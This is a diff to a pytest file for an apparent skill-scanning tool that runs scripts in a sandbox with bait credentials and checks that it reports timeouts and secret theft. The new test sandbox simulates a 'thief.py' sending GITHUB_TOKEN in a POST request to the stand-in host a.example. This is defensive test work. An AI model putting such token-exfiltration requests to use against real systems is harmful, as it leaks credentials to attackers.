@@ -11,7 +11,7 @@ from typing import Any
 import pytest
 
 from tacit.domain.lifecycle import coded
-from tacit.domain.sandbox import Alteration, Ended, FileChange, SandboxRequest, SandboxResult
+from tacit.domain.sandbox import Alteration, Ended, FileChange, Sandbox, SandboxRequest, SandboxResult
 from tacit.domain.skill import SkillFile
 from tacit.features.scan import detonation, witness
 from tacit.features.scan.canaries import disguises, make_canaries
@@ -150,7 +150,7 @@ def test_ends_are_reported() -> None:
     assert reported(ran(alarms=("the witness was ended",))) == {"tampering": "high"}
     assert reported(ran(ended=Ended.OUTPUT)) == {"resources": "medium"}
     assert reported(ran(status=152)) == {"resources": "medium"}
-    assert reported(ran(ended=Ended.TIME)) == {"unfinished": "info"}
+    assert reported(ran(ended=Ended.TIME)) == {"unfinished": "medium"}
 
 
 @pytest.mark.parametrize(
@@ -173,7 +173,7 @@ class Recorder:
         return self._result
 
 
-def tried(sandbox: Recorder, *files: SkillFile, **more: Any) -> Detonation:
+def tried(sandbox: Sandbox, *files: SkillFile, **more: Any) -> Detonation:
     return detonate(files, sandbox, token=token, find=lambda name: f"/usr/bin/{name}", **more)
 
 
@@ -210,13 +210,53 @@ def test_every_script_gets_bait_of_its_own() -> None:
     assert first != second
 
 
-def test_time_for_all_scripts_is_limited_and_what_was_left_out_is_named() -> None:
+def test_time_for_all_scripts_is_limited_and_what_was_left_out_is_a_severe_finding() -> None:
     clock = itertools.count(0.0, 20.0)
     files = [SkillFile(path=f"{n}.py", content="") for n in range(5)]
     seen = tried(Recorder(), *files, clock=lambda: next(clock))
     assert len(seen.ran) == 2
     assert [path for path, _ in seen.skipped] == ["2.py", "3.py", "4.py"]
     assert seen.skipped[0][1] == coded(SkipReason.TIME_USED_UP, seconds=60.0)
+    assert [(each.rule, each.severity, each.field) for each in seen.findings] == [
+        ("detonation_not_run", "high", f"files.{number}") for number in (2, 3, 4)
+    ]
+
+
+class Sleepers:
+    """A sandbox with a clock, in which every script but `thief.py` takes up all its time."""
+
+    def __init__(self) -> None:
+        self.now = 0.0
+        self.runs: list[tuple[str, float]] = []
+
+    def run(self, request: SandboxRequest) -> SandboxResult:
+        path, wall_s = request.command[1], request.limits.wall_s
+        self.runs.append((path, wall_s))
+        if path == "thief.py":
+            self.now += 0.1
+            return ran(("request", f"POST http://a.example/ HTTP/1.1\r\n\r\n{request.environment['GITHUB_TOKEN']}"))
+        self.now += wall_s
+        return ran(ended=Ended.TIME)
+
+
+def test_scripts_that_sleep_hide_no_thief_behind_them() -> None:
+    sandbox = Sleepers()
+    files = [*(SkillFile(path=f"{n}.py", content="") for n in range(9)), SkillFile(path="thief.py", content="")]
+    seen = tried(sandbox, *files, clock=lambda: sandbox.now)
+    assert len(seen.ran) == 10
+    rules = [(each.rule, each.severity.value) for each in seen.findings]
+    assert rules.count(("detonation_unfinished", "medium")) == 9
+    assert ("detonation_secret_sent", "critical") in rules
+    assert [seconds for path, seconds in sandbox.runs if path == "0.py"] == [detonation.FIRST_S, detonation.EACH_S]
+
+
+def test_the_most_suspicious_script_runs_first() -> None:
+    sandbox = Sleepers()
+    files = [*(SkillFile(path=f"{n}.py", content="") for n in range(200)), SkillFile(path="thief.py", content="")]
+    seen = tried(sandbox, *files, clock=lambda: sandbox.now, suspicion={200: 3})
+    assert sandbox.runs[0][0] == "thief.py"
+    rules = {each.rule for each in seen.findings}
+    assert {"detonation_secret_sent", "detonation_not_run", "detonation_unfinished"} <= rules
 
 
 def test_script_of_the_skill_is_not_hidden_by_bait_of_the_same_name() -> None:
